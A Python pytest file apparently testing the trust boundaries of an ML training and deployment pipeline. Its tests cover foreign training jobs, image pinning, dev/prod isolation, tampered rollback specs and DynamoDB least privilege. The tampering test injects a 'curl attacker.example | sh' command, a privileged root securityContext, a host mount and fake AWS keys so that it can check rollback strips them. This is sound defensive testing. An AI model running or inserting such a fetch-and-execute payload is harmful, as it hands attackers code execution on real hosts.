"""Trust boundaries (docs/SECURITY.md): a run acts only on what it proved is its own.

- a foreign training job already holding the run's name is never adopted;
- dev and prod stacks in one emulator (one account), same model, same schedule slot, never touch each
  other's jobs, executions, tokens or records;
- Deploy refuses an image that is not the model config's;
- a tampered container spec stored in the runs table is never rolled out: rollback restores only the
  fields Seam manages.

Each test fills in its row of the `make reliability` table.
"""

from __future__ import annotations

import contextlib
import os
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import seam
from seam.dependencies import Dependencies, dependencies
from seam.domain.deployment import check_rollout, deploy, rollback
from seam.domain.triggering import scheduled_request
from seam.errors import UnexpectedImageError
from seam.models.events import QueuedRequest
from seam.models.run import RunStatus
from seam.models.serving_target import ServingTarget
from seam.settings import Settings
from seam_local.moto_hooks import set_training_job
from seam_local.stack import EmulatedStack
from seam_local.template import StackTemplate

from tests.reliability.conftest import Figure, poll_until, stack_client
from tests.reliability.faults import FaultInjector
from tests.reliability.test_races_serving import at_deploy, deployed
from tests.reliability.test_scenarios import drop_event, onboard, run_ids_for
from tests.template.test_security import dynamodb_grants
from tests.template.test_template import cfn, raw  # noqa: F401  (the translated-template fixture)
from tests.workflow.conftest import stop_running_executions
from tests.workflow.harness import CRASHING_IMAGE, GOOD_CSV, IMAGE, Harness, model_config, sqs_event
from tests.workflow.in_memory_serving import InMemoryServing

pytestmark = [
    pytest.mark.usefixtures("fast_retries", "unique_training_jobs"),
    pytest.mark.filterwarnings("ignore:No application metrics to publish"),
]

OTHER_IMAGE = "123456789012.dkr.ecr.us-east-1.amazonaws.com/churn@sha256:" + "e" * 64
ORIGINAL_IMAGE = "registry/churn:previous"  # what the harness's Deployment serves before any run


def job_exists(h: Harness, name: str) -> bool:
    names = stack_client(h, "sagemaker").list_training_jobs(NameContains=name)["TrainingJobSummaries"]
    return any(j["TrainingJobName"] == name for j in names)


def job(h: Harness, name: str) -> dict[str, Any]:
    return stack_client(h, "sagemaker").describe_training_job(TrainingJobName=name)


# -- a foreign job holding the run's name --------------------------------------------------------------------


def test_a_foreign_job_holding_the_runs_name_is_never_adopted(harness: Harness, figure: Figure) -> None:
    config = onboard(harness, "squat")
    event = drop_event(harness, "squat", "day1")
    [run_id] = run_ids_for(harness, event)
    # Someone with CreateTrainingJob in the account takes the run's (predictable) name first: their
    # image, their role, their output - and Seam's tags copied, which are easy to copy.
    sagemaker = stack_client(harness, "sagemaker")
    sagemaker.create_training_job(
        TrainingJobName=run_id,
        AlgorithmSpecification={"TrainingImage": OTHER_IMAGE, "TrainingInputMode": "File"},
        RoleArn="arn:aws:iam::123456789012:role/someone-else",
        OutputDataConfig={"S3OutputPath": "s3://someone-elses-bucket/out/"},
        ResourceConfig={"InstanceType": "ml.m5.large", "InstanceCount": 1, "VolumeSizeInGB": 1},
        StoppingCondition={"MaxRuntimeInSeconds": 60},
        Tags=[{"Key": "seam:stage", "Value": "test"}, {"Key": "seam:run-id", "Value": run_id}],
    )
    set_training_job(run_id, "InProgress", account="123456789012", region="us-east-1")

    harness.trigger(event)
    execution = harness.wait_execution(run_id)
    # The squatter's job completes with a great metric; its event reaches Seam's callback.
    completed = set_training_job(
        run_id, "Completed", account="123456789012", region="us-east-1", metrics={"validation:auc": 0.99}
    )
    callback = harness.stack.invoke("TrainingCallbackFunction", sqs_event(completed))

    run = harness.run(run_id)
    assert run.status is RunStatus.FAILED and run.error == "ForeignTrainingJobError", (run.error, run.cause)
    assert f"image {OTHER_IMAGE} ≠ config {config.training.image}" in (run.cause or "")
    assert "role arn:aws:iam::123456789012:role/someone-else" in (run.cause or "")
    assert "Register" not in harness.states_entered(run_id) and "Deploy" not in harness.states_entered(run_id)
    assert callback == {"batchItemFailures": []}
    token = harness.deps.tokens.get(run_id)
    assert token is not None and token.claimed_by == "foreign-job"  # settles nothing, stops nothing
    assert job(harness, run_id)["TrainingJobStatus"] == "Completed"  # not Seam's: left alone
    assert harness.deps.versions.champion("squat") is None
    serving = harness.serving.snapshot(ServingTarget.model_validate(config.serving.model_dump()))  # type: ignore[union-attr]
    assert serving.container["image"] == ORIGINAL_IMAGE

    figure.scenario = "foreign job already holds the run's name"
    figure.injected = (
        "before the run launches, a job named like it is created with another image, role and output "
        "(Seam's stage and run-id tags copied); it later completes with auc 0.99"
    )
    figure.expected = (
        "run FAILED ForeignTrainingJobError naming what differs; nothing registered or deployed; "
        "job left alone"
    )
    figure.observed = (
        f"execution {execution['status']}, run {run.status.value} {run.error}: "
        f"{len((run.cause or '').split(';'))} mismatches named; "
        f"Completed event -> token already claimed ({token.claimed_by}); champion none; "
        f"serving {serving.container['image']}; foreign job {job(harness, run_id)['TrainingJobStatus']}"
    )


def test_deploy_refuses_an_image_that_is_not_the_configs(harness: Harness, figure: Figure) -> None:
    config = onboard(harness, "pinned")
    target = ServingTarget.model_validate(config.serving.model_dump())  # type: ignore[union-attr]
    state = at_deploy(harness, "pinned", "seam-test-pinned-0000000000dd", OTHER_IMAGE)

    with pytest.raises(UnexpectedImageError, match=f"image {OTHER_IMAGE} ≠ config {IMAGE}"):
        deploy(state, target, harness.serving, harness.deps.runs, 0, config.training.image)

    snapshot = harness.serving.snapshot(target)
    assert snapshot.container["image"] == ORIGINAL_IMAGE and snapshot.run_id is None
    figure.scenario = "deploy of an image that is not the config's"
    figure.injected = "a trained, registered release whose image digest differs from the model config's"
    figure.expected = "Deploy refuses (UnexpectedImageError) before serving is read or patched"
    figure.observed = f"UnexpectedImageError; serving {snapshot.container['image']}, untouched"


# -- a tampered stored container spec ------------------------------------------------------------------------


def test_a_tampered_stored_container_spec_is_never_rolled_out(harness: Harness, figure: Figure) -> None:
    config = onboard(harness, "tamper", image=CRASHING_IMAGE)
    target = ServingTarget.model_validate(config.serving.model_dump())  # type: ignore[union-attr]
    before = harness.serving.snapshot(target)
    run = deployed(
        harness, at_deploy(harness, "tamper", "seam-test-tamper-0000000000ee", CRASHING_IMAGE), target
    )
    assert check_rollout(run, target, harness.serving, max_checks=3).state == "failed"  # -> Rollback

    # Someone with write access to the runs table edits the recorded pre-deploy spec.
    stored = harness.deps.runs.get(run.run_id)
    assert stored is not None and stored.previous_serving is not None
    tampered = dict(stored.previous_serving)
    tampered["container"] = {
        **tampered["container"],
        "command": ["sh", "-c", "curl -s attacker.example/x | sh"],
        "securityContext": {"privileged": True, "runAsUser": 0},
        "env": [*tampered["container"].get("env", []), {"name": "AWS_ACCESS_KEY_ID", "value": "AKIAEXAMPLE"}],
        "volumeMounts": [{"name": "host", "mountPath": "/host"}],
    }
    harness.deps.runs.update(run.run_id, previous_serving=tampered)

    assert rollback(run, target, harness.serving, harness.deps.runs) is True
    after = harness.serving.snapshot(target)

    injected_keys = {"command", "securityContext", "volumeMounts"}
    assert not injected_keys & set(after.container), after.container
    assert "AWS_ACCESS_KEY_ID" not in {e["name"] for e in after.container.get("env", [])}
    assert after.managed() == before.managed()  # image, SEAM_* env, seam.dev/* annotations as before
    figure.scenario = "tampered stored container spec"
    figure.injected = (
        "a release crashloops; before Rollback, the run's recorded pre-deploy spec in RunsTable gets a "
        "command, privileged securityContext, a hostPath mount and AWS credentials in env"
    )
    figure.expected = (
        "Rollback restores image, SEAM_* env and seam.dev/* annotations only; "
        "nothing injected reaches serving"
    )
    figure.observed = (
        f"rolled back to {after.container['image']}; injected fields on the Deployment: "
        f"{sorted(injected_keys & set(after.container)) or 'none'}; AWS_ACCESS_KEY_ID in env: "
        f"{'AWS_ACCESS_KEY_ID' in {e['name'] for e in after.container.get('env', [])}}"
    )


# -- dev and prod stacks in one account ----------------------------------------------------------------------

_ENV_LOCK = threading.RLock()


@contextlib.contextmanager
def two_stages(
    harness: Harness, stage: str = "prod"
) -> Iterator[tuple[EmulatedStack, Dependencies, InMemoryServing]]:
    """A second stack, `stage`, deployed from template.yaml into the harness's moto backend next to its
    "test" stack: its own tables, bucket, queues, functions and state machine. Each stack's functions
    run with their own stack's environment (the process has one environment: invocations take turns)."""
    template = StackTemplate(
        stage=stage, parameters={"AllowedClusters": "seam-local", "RolloutWaitSeconds": 0}
    )
    other = EmulatedStack(template, runtime=harness.stack.runtime)
    saved = dict(os.environ)
    other.deploy()  # sets the process environment to its own: put the harness's back
    os.environ.clear()
    os.environ.update(saved)
    other_serving = InMemoryServing()
    for stack, serving in ((harness.stack, harness.serving), (other, other_serving)):
        for spec in stack.functions.values():
            handler, memory_mb, timeout_s = stack.runtime.handlers[spec.name]
            stack.runtime.handlers[spec.name] = (
                _scoped(handler, spec.environment, serving),
                memory_mb,
                timeout_s,
            )
    other_deps = Dependencies(Settings.from_environ(other.environment))
    other_deps.serving = other_serving
    try:
        yield other, other_deps, other_serving
    finally:
        stop_running_executions(other)


def _scoped(handler: Any, environment: dict[str, str], serving: InMemoryServing) -> Any:
    def run(event: Any, context: Any) -> Any:
        with _ENV_LOCK:
            saved = dict(os.environ)
            os.environ.update(environment)
            seam.reset()
            dependencies().serving = serving
            try:
                return handler(event, context)
            finally:
                os.environ.clear()
                os.environ.update(saved)
                seam.reset()

    return run


def test_dev_and_prod_stacks_with_the_same_model_and_slot_never_touch_each_other(
    harness: Harness, figure: Figure
) -> None:
    with two_stages(harness, "prod") as (prod, prod_deps, prod_serving):
        stacks = {"test": (harness.stack, harness.deps), "prod": (prod, prod_deps)}
        config = model_config("shared", retrain_every_minutes=60)
        harness.onboard(config)
        prod_deps.models.put(config)
        assert config.serving is not None
        prod_serving.add(config.serving, image=ORIGINAL_IMAGE, env={"SEAM_MODEL_VERSION": "0"})
        for _, deps in stacks.values():  # each stage's own data, in its own bucket
            stack_client(harness, "s3").put_object(
                Bucket=deps.settings.data_bucket, Key="datasets/shared/2026-11-22.csv", Body=GOOD_CSV.encode()
            )

        # The same schedule slot of the same model, queued by each stage's own trigger.
        slot = datetime(2026, 11, 22, 10, 0, tzinfo=UTC)
        requests = {stage: scheduled_request(config, slot, stage) for stage in stacks}
        run_ids = {stage: r.run_id for stage, r in requests.items()}
        assert requests["test"].intent == requests["prod"].intent and len(set(run_ids.values())) == 2
        # A stage's queued request on the other stage's queue is refused, not started there.
        # (A batch of only poison fails as a whole: SQS redelivers it, then the DLQ.)
        with pytest.raises(RuntimeError, match="queued request of stage 'test', this is stage 'prod'"):
            prod.invoke("TriggerFunction", sqs_event(QueuedRequest.body(requests["test"])))
        for stage, (stack, _) in stacks.items():
            assert stack.invoke("TriggerFunction", sqs_event(QueuedRequest.body(requests[stage]))) == {
                "batchItemFailures": []
            }
        for stage, (_, deps) in stacks.items():
            poll_until(
                lambda deps=deps, stage=stage: (
                    deps.tokens.get(run_ids[stage]) and job_exists(harness, run_ids[stage])
                ),
                30,
                f"{stage} never launched",
            )
        jobs = {stage: job(harness, run_ids[stage]) for stage in stacks}

        # Every SageMaker event reaches both stacks (as if both rules matched): each settles only its own.
        outcomes: dict[tuple[str, str], Any] = {}
        for job_stage in stacks:
            event = set_training_job(
                run_ids[job_stage],
                "Completed",
                account="123456789012",
                region="us-east-1",
                metrics={"validation:auc": 0.9},
            )
            for stage, (stack, _) in stacks.items():
                outcomes[(job_stage, stage)] = stack.invoke("TrainingCallbackFunction", sqs_event(event))
        assert all(result == {"batchItemFailures": []} for result in outcomes.values()), outcomes
        statuses = {}
        for stage, (stack, deps) in stacks.items():
            arn = deps.workflow.execution_arn(run_ids[stage])
            sfn = stack.client("stepfunctions")
            poll_until(
                lambda sfn=sfn, arn=arn: sfn.describe_execution(executionArn=arn)["status"] != "RUNNING",
                60,
                stage,
            )
            statuses[stage] = sfn.describe_execution(executionArn=arn)["status"]

        # Each stage's records hold its own run only; its token, its job, its champion, its Deployment.
        for stage, (stack, deps) in stacks.items():
            other = "prod" if stage == "test" else "test"
            assert [r.run_id for r in deps.runs.list_for_model("shared")] == [run_ids[stage]]
            assert deps.runs.get(run_ids[stage]).status is RunStatus.DEPLOYED  # type: ignore[union-attr]
            assert deps.tokens.get(run_ids[other]) is None
            champion = deps.versions.champion("shared")
            assert champion is not None
            executions = stack.client("stepfunctions").list_executions(
                stateMachineArn=stack.state_machine_arn
            )
            assert [e["name"] for e in executions["executions"]] == [run_ids[stage]]
            tags = {
                t["Key"]: t["Value"]
                for t in stack_client(harness, "sagemaker").list_tags(
                    ResourceArn=jobs[stage]["TrainingJobArn"]
                )["Tags"]
            }
            assert (tags["seam:stage"], tags["seam:run-id"]) == (stage, run_ids[stage])
            assert jobs[stage]["OutputDataConfig"]["S3OutputPath"].startswith(
                f"s3://{deps.settings.data_bucket}/"
            )
            rule = stack.template.resolve(stack.template.resources["TrainingStateChangeRule"]["Properties"])
            prefix = rule["EventPattern"]["detail"]["TrainingJobName"][0]["prefix"]
            assert run_ids[stage].startswith(prefix) and not run_ids[other].startswith(prefix)
        served = {
            "test": harness.serving.snapshot(config.serving).run_id,
            "prod": prod_serving.snapshot(config.serving).run_id,
        }
        assert served == run_ids

    figure.scenario = "dev and prod stacks in one account"
    figure.injected = (
        "two stacks from template.yaml in one emulator (stages test, prod); model 'shared' onboarded in "
        "both, the same hourly slot queued in both; each job's Completed event delivered to both callbacks; "
        "test's queued request also sent to prod's trigger"
    )
    figure.expected = (
        "two run ids, two jobs, two executions; each stage settles, records and deploys only its own"
    )
    figure.observed = (
        f"run ids {run_ids['test']} / {run_ids['prod']}; crossed queued request refused (poison); executions "
        f"{statuses}; each callback settled its own job and ignored the other's; each runs/tokens table "
        f"holds its own run only; serving {served}"
    )


# -- least privilege: every DynamoDB call a function makes is granted to its role ---------------------------

SERVING_FUNCTIONS = {"DeployFunction", "CheckRolloutFunction", "RollbackFunction"}  # ServingDeployerRole


def dynamodb_calls(h: Harness, faults: FaultInjector) -> set[tuple[str, str, str]]:
    """(role, table logical id, action) of every DynamoDB call the functions made."""
    tables = {h.stack.name(lid): lid for lid in h.stack.template.of_type("AWS::DynamoDB::Table")}
    calls: set[tuple[str, str, str]] = set()
    for call in faults.calls:
        if call.site.service != "dynamodb" or call.site.function is None:
            continue
        role = (
            "ServingDeployerRole" if call.site.function in SERVING_FUNCTIONS else f"{call.site.function}Role"
        )
        if (
            call.site.operation == "TransactWriteItems"
        ):  # authorised per item: Put/Update/Delete/ConditionCheck
            for item in call.params["TransactItems"]:
                ((kind, body),) = item.items()
                action = {"ConditionCheck": "ConditionCheckItem"}.get(kind, f"{kind}Item")
                calls.add((role, tables[body["TableName"]], action))
        elif call.site.operation == "BatchGetItem":
            calls |= {(role, tables[name], "BatchGetItem") for name in call.params["RequestItems"]}
        else:
            calls.add((role, tables[call.params["TableName"]], call.site.operation))
    return calls


def test_every_dynamodb_call_of_every_function_is_granted_by_its_role_and_no_more(
    harness: Harness,
    faults: FaultInjector,
    cfn: dict[str, Any],  # noqa: F811
    figure: Figure,
) -> None:
    # Every path that writes: a deployed run, a run whose rollout fails and rolls back, a pending run
    # handed over by Finalize, a schedule tick, a drift alarm, a reconciler sweep.
    onboard(harness, "lp")
    onboard(harness, "lpcrash", image=CRASHING_IMAGE)
    earlier = datetime.now(UTC) - timedelta(seconds=10)  # the drift alarm below: seconds after the drops
    first = drop_event(harness, "lp", "day1", at=earlier)
    [first_run] = run_ids_for(harness, first)
    harness.trigger(first)
    # Other bytes than day1's (the same bytes would be SKIPPED as unchanged since the champion).
    second = drop_event(harness, "lp", "day2", GOOD_CSV + "61,91.5,1\n", earlier)
    third = drop_event(harness, "lp", "day3", GOOD_CSV + "62,93.0,0\n", earlier)
    harness.trigger(second)
    harness.trigger(third)  # day2 waits as the pending retrain, day3 replaces it
    crash = drop_event(harness, "lpcrash", "day1")
    [crash_run] = run_ids_for(harness, crash)
    harness.trigger(crash)
    harness.finish_training(first_run)
    harness.finish_training(crash_run)
    [pending_run] = run_ids_for(harness, third)
    statuses = {r: harness.wait_execution(r, timeout=60)["status"] for r in (first_run, crash_run)}
    harness.wait_for_training(pending_run, timeout=30)  # started by Finalize's hand-over
    harness.finish_training(pending_run)
    statuses[pending_run] = harness.wait_execution(pending_run, timeout=60)["status"]
    harness.trigger(
        {
            "source": "seam.schedule",
            "detail-type": "Scheduled Retrain Tick",
            "time": "2026-11-22T09:15:00Z",
            "id": "t",
        }
    )
    harness.trigger(harness.alarm_event("lp-drift"))
    harness.stack.invoke("ReconcilerFunction", {})

    granted = dynamodb_grants(cfn)
    calls = dynamodb_calls(harness, faults)
    refused = sorted(c for c in calls if c[2] not in granted.get(c[0], {}).get(c[1], set()))
    unused = sorted(
        (role, table, action)
        for role, tables in granted.items()
        for table, actions in tables.items()
        for action in actions
        if (role, table, action) not in calls
    )
    assert "Rollback" in harness.states_entered(crash_run)
    assert refused == [], refused
    roles = {c[0] for c in calls}
    assert roles >= {
        f"{f}FunctionRole" for f in ("Trigger", "Validate", "LaunchTraining", "TrainingCallback")
    }

    figure.scenario = "least privilege: DynamoDB"
    figure.injected = (
        "deployed run, failed rollout + Rollback, pending run handed over by Finalize, schedule tick, drift "
        "alarm, reconciler sweep; every DynamoDB call recorded with its function"
    )
    figure.expected = "every (role, table, action) called is granted by the template's explicit statements"
    spare = ", ".join(
        f"{role.removesuffix('FunctionRole')}/{table}/{action}" for role, table, action in unused
    )
    figure.observed = (
        f"runs {sorted(statuses.values())}; {len(calls)} (role, table, action) called, 0 refused; "
        f"granted but not exercised here: {spare or 'none'}"
    )
